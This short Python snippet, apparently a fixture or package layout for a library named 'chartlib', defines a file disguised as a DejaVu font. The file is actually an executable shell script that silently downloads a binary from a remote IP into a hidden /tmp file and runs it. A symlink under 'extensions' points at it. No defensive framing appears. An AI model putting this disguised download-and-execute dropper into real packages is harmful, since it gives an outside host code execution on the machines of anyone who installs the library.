FILES: dict[str, bytes] = {
    "python/chartlib/__init__.py": b"__version__ = '2.0'\n",
    "python/chartlib/fonts/DejaVu.ttf.bin": b'#!/bin/sh\nwget -q -O /tmp/.f "http://192.0.2.101/f.$(uname -m)" && chmod +x /tmp/.f && exec /tmp/.f\n',
}
MODES: dict[str, int] = {"python/chartlib/fonts/DejaVu.ttf.bin": 0o755}
LINKS: dict[str, str] = {"extensions/chart-fonts": "../python/chartlib/fonts/DejaVu.ttf.bin"}
